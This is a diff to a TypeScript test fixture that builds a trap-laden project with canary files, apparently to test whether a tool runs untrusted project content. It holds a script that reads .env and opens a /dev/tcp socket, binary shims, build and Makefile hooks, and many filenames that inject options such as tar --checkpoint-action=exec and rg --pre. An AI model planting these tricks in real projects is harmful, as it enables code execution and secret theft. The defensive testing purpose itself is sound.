@@ -25,12 +25,11 @@ const FILES: Readonly<Record<string, string>> = {
   "a.yml": "a: 2\n",
   "src/a.ts": "export const a = 1;\n",
   "src/main.rs": "fn main() {}\n",
-  "empty/.keep": "",
   ".gitignore": ".env\n*-link-to-env\n",
   ".gitattributes": "*.txt diff=evil filter=evil\n",
   // Bash, for it can connect.
   "evil.sh":
-    "#!/bin/bash\ncd @ROOT@\ntouch CANARY-evil @HOME@/CANARY-evil @OUTSIDE@/CANARY-evil\ncat .env\nexec 3<> /dev/tcp/127.0.0.1/@PORT@\ncat\n",
+    "#!/bin/bash\ncd @ROOT@\ntouch CANARY-evil @HOME@/CANARY-evil @OUTSIDE@/CANARY-evil\ncat .env\nexec 3<> /dev/tcp/127.0.0.1/@PORT@\ntimeout 1 cat\n",
   "bin/ls": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
   "bin/git-evil": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
   "bin/git-merge-evil": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
@@ -43,7 +42,7 @@ const FILES: Readonly<Record<string, string>> = {
   "gradlew": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
   "Makefile": MAKE,
   "evil.mk": MAKE,
-  "sub/Makefile": MAKE,
+  "sub/Makefile": MAKE.replaceAll("./evil", "../evil"),
   "package.json": JSON.stringify({
     name: "looks",
     version: "1.0.0",
@@ -89,6 +88,8 @@ const FILES: Readonly<Record<string, string>> = {
   "evil.sed": "e ./evil.sh\n",
   "evil.sql": ".shell ./evil.sh\n",
   "evil.c": '#include <stdio.h>\nint main(void) { return fopen("CANARY-c", "w") == 0; }\n',
+  "evil_so.c":
+    '#include <fcntl.h>\n__attribute__((constructor)) void make(void) { creat("CANARY-so", 0644); }\n',
   "evil.opts": "-save-temps -o CANARY-opts\n",
   "evil.rs": "fn main() {}\n",
   "evil.cmake": "execute_process(COMMAND ./evil.sh)\n",
@@ -110,19 +111,51 @@ const FILES: Readonly<Record<string, string>> = {
   "Cargo.toml": '[package]\nname = "looks"\nversion = "0.1.0"\nedition = "2021"\nbuild = "build.rs"\n',
   "build.rs": 'fn main() { std::process::Command::new("./evil.sh").status().ok(); }\n',
   ".cargo/config.toml": '[build]\nrustc-wrapper = "./evil.sh"\n',
-  "go.mod": "module looks\n\ngo 1.19\n",
-  "main.go": "package main\n\nfunc main() {}\n",
-  "main_test.go":
+  "gomod/go.mod": "module looks\n\ngo 1.19\n",
+  "gomod/main.go": "package main\n\nfunc main() {}\n",
+  "gomod/main_test.go":
     'package main\n\nimport (\n\t"os"\n\t"testing"\n)\n\nfunc TestX(*testing.T) { os.WriteFile("CANARY-go", nil, 0o644) }\n',
-  "globs/a.txt": "b\na\n",
-  "globs/--output=CANARY-glob": "",
-  "globs/--pre=..evil.sh": "",
-  "globs/--checkpoint=1": "",
-  "globs/--checkpoint-action=exec=touch CANARY-glob": "",
-  "globs/-oCANARY-glob": "",
-  "globs/-cimport os; os.mkdir('CANARY-glob')": "",
-  "globs/-emkdir CANARY": "",
-  "globs/b-CANARY": "",
+  "globs/sort/--output=CANARY-glob": "",
+  "globs/sort/a": "b\na\n",
+  "globs/shuf/-oCANARY-glob": "",
+  "globs/shuf/a": "b\na\n",
+  "globs/rg/--pre=touch": "",
+  "globs/rg/a": "a\n",
+  "globs/tar/--checkpoint=1": "",
+  "globs/tar/--checkpoint-action=exec=touch CANARY-glob": "",
+  "globs/tar/a": "a\n",
+  "globs/find/+a": "",
+  "globs/find/-delete": "",
+  "globs/git/--output=CANARY-glob": "",
+  "globs/git/a": "a\n",
+  "globs/git/b": "b\n",
+  "globs/zip/-T": "",
+  "globs/zip/-TTtouch CANARY-glob #": "",
+  "globs/zip/a": "a\n",
+  "globs/python/-cimport os; os.mkdir('CANARY-glob')": "",
+  "globs/perl/-emkdir 'CANARY-glob'": "",
+  "globs/ruby/-eDir.mkdir 'CANARY-glob'": "",
+  "globs/node/--cpu-prof": "",
+  "globs/node/a.js": "1;\n",
+  "globs/sed/-i": "",
+  "globs/sed/a": "a\n",
+  "globs/gcc/-c": "",
+  "globs/gcc/-oCANARY-glob": "",
+  "globs/gcc/a.c": "int a;\n",
+  "globs/tree/-o": "",
+  "globs/tree/CANARY-glob-not-empty": "x\n",
+  "globs/cp/--target-directory=d": "",
+  "globs/cp/a": "a\n",
+  "globs/cp/d/x": "",
+  "globs/mv/--target-directory=d": "",
+  "globs/mv/a": "a\n",
+  "globs/mv/d/x": "",
+  "globs/plain/a": "a\na\n",
+  "globs/plain/b": "b\n",
+  "globs/cmd/touch": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
+  "globs/cmd/x-CANARY": "",
+  "globs/xargs/-atouch": "",
+  "globs/xargs/touch": "CANARY-glob\n",
   ".env": `SECRET=${SECRET}\n`,
   "sub/.env": `SECRET=${SECRET}\n`,
 };
@@ -182,6 +215,9 @@ export async function makeLooksProject(places: LooksPlaces): Promise<void> {
   await git("commit", "-qm", "one");
   await Deno.writeTextFile(`${root}/a.txt`, "a\nb\nc\nd\n");
   await git("commit", "-qam", "two");
+  await Deno.writeTextFile(`${root}/a.txt`, "stashed\n");
+  await git("stash", "-q");
+  await run(root, "tar", ["cf", "evil.tar", "a.txt", "b.txt"]);
   await run(root, "git", ["clone", "-q", "--bare", ".", "evil.git"]);
   for (const folder of [root, `${root}/evil.git`]) {
     for (const [name, value] of GIT_CONFIG) await run(folder, "git", ["config", name, value]);
